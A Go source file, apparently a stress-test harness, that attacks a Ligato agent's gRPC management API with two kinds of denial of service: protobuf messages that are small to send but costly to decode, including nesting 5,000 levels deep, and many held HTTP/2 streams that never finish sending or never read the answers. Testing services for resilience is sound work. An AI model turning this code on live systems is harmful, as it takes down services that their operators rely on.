package siege

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net/http"
	"time"

	"google.golang.org/protobuf/encoding/protowire"
)

// The paths of calls.
const (
	setConfig   = "/ligato.generic.ManagerService/SetConfig"
	getConfig   = "/ligato.generic.ManagerService/GetConfig"
	dumpState   = "/ligato.generic.ManagerService/DumpState"
	subscribe   = "/ligato.generic.ManagerService/Subscribe"
	knownModels = "/ligato.generic.MetaService/KnownModels"
	getAll      = "/ligato.configurator.ConfiguratorService/Get"
	dumpAll     = "/ligato.configurator.ConfiguratorService/Dump"
	notify      = "/ligato.configurator.ConfiguratorService/Notify"
	reflection  = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
)

// largestMessage is the largest request that the agent accepts.
const largestMessage = 4 << 20

// caller makes requests over connections of its own, by HTTP/2 where the server has it. It reads nothing of an answer that is not asked for.
func (t *target) caller() *http.Client {
	transport := &http.Transport{
		Protocols:       new(http.Protocols),
		HTTP2:           &http.HTTP2Config{MaxReceiveBufferPerStream: 64 << 10, MaxReceiveBufferPerConnection: 64 << 10},
		TLSClientConfig: t.secure.Clone(),
	}
	transport.Protocols.SetUnencryptedHTTP2(t.secure == nil)
	transport.Protocols.SetHTTP2(t.secure != nil)
	transport.Protocols.SetHTTP1(t.secure != nil)
	return &http.Client{Transport: transport}
}

// call begins a call. The agent may refuse it: then nothing is returned.
func (t *target) call(ctx context.Context, by *http.Client, path string, body io.Reader) io.ReadCloser {
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, t.address(t.calls, path), body)
	if err != nil {
		t.Error(err) // a mistake of the attack
		return nil
	}
	request.Header.Set("Content-Type", "application/grpc")
	request.Header.Set("Te", "trailers")
	request.Header.Set("Datasrc", "siege")
	request.Header.Set("Wait-Done", "true")
	answer, err := by.Do(request)
	if err != nil {
		return nil
	}
	return answer.Body
}

// framed is a message as gRPC sends it.
func framed(message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
}

// field is a field of a message that has a message, a text or nothing.
func field(number protowire.Number, content []byte) []byte {
	return protowire.AppendBytes(protowire.AppendTag(nil, number, protowire.BytesType), content)
}

// dense are requests that are small to send and large to decode, by their paths.
func dense() map[string][]byte {
	removal := field(1, field(1, append(field(1, []byte("linux.interfaces.interface")), field(2, []byte("none"))...)))
	nested := field(1, nil)
	for range 5000 {
		nested = field(1, nested)
	}
	rules := field(1, append(field(1, []byte("x/ligato.vpp.acl.ACL")), field(2, bytes.Repeat(field(2, nil), largestMessage/3))...))
	return map[string][]byte{
		setConfig:         bytes.Repeat(field(1, nil), largestMessage/2),
		setConfig + "?1":  bytes.Repeat(field(1, removal), largestMessage/len(removal)-1000),
		setConfig + "?2":  field(1, field(1, field(2, rules))),
		setConfig + "?3":  nested,
		getConfig:         bytes.Repeat(field(1, nil), largestMessage/2),
		subscribe:         bytes.Repeat(field(1, nil), largestMessage/2),
		notify:            bytes.Repeat(field(2, nil), largestMessage/2),
		knownModels:       field(1, bytes.Repeat([]byte("c"), largestMessage-100)),
		knownModels + "?": bytes.Repeat(field(9, nil), largestMessage/2),
	}
}

// denseCalls sends such requests over many connections at once.
func denseCalls(ctx context.Context, t *target) error {
	all := dense()
	var paths []string
	for path := range all {
		paths = append(paths, path)
	}
	worker := func(first int) func() error {
		return func() error {
			by := t.caller()
			defer by.CloseIdleConnections()
			return t.every(ctx, 200*time.Millisecond, func(n int) error {
				soon, cancel := context.WithTimeout(ctx, 3*time.Second)
				defer cancel()
				path := paths[(n+first)%len(paths)]
				plain, _, _ := bytes.Cut([]byte(path), []byte("?"))
				answer := t.call(soon, by, string(plain), bytes.NewReader(framed(all[path])))
				if answer != nil {
					_, _ = io.Copy(io.Discard, answer) // it may break off
					answer.Close()
				}
				return nil
			})
		}
	}
	return together(worker(0), worker(1), worker(2), worker(3), worker(4), worker(5))
}

// unfinished is a request of which the end never comes.
type unfinished struct {
	io.Reader
	ctx context.Context
}

// Read implements io.Reader.
func (u unfinished) Read(p []byte) (int, error) {
	n, err := u.Reader.Read(p)
	if err == nil {
		return n, nil
	}
	<-u.ctx.Done()
	return 0, u.ctx.Err()
}

// heldCalls has many connections with many calls each. They send nearly all of a large request, or
// read nothing of a large answer, and go on for ever.
func heldCalls(ctx context.Context, t *target) error {
	almost := framed(make([]byte, largestMessage-1))[:largestMessage/4]
	paths := []string{subscribe, getConfig, dumpState, getAll, notify, dumpAll, reflection}
	return t.hold(ctx, func(soon context.Context, by *http.Client, n int) io.ReadCloser {
		if n%2 == 0 {
			return t.call(soon, by, setConfig, unfinished{bytes.NewReader(almost), soon})
		}
		return t.call(soon, by, paths[n%len(paths)], bytes.NewReader(framed(nil)))
	})
}

// hold has many connections with many requests each, which begin and do not end. A request gets its number; the
// answer is not read.
func (t *target) hold(ctx context.Context, begin func(ctx context.Context, by *http.Client, n int) io.ReadCloser) error {
	const connections, streams = 20, 100
	var all []func() error
	for first := range connections {
		all = append(all, func() error {
			return t.every(ctx, 10*time.Second, func(n int) error {
				soon, cancel := context.WithTimeout(ctx, 9*time.Second)
				defer cancel()
				by := t.caller()
				defer by.CloseIdleConnections()
				requests := make([]func() error, streams)
				for i := range requests {
					requests[i] = func() error {
						if answer := begin(soon, by, i+first+n); answer != nil {
							<-soon.Done()
							answer.Close()
						}
						return nil
					}
				}
				return together(requests...)
			})
		})
	}
	return together(all...)
}
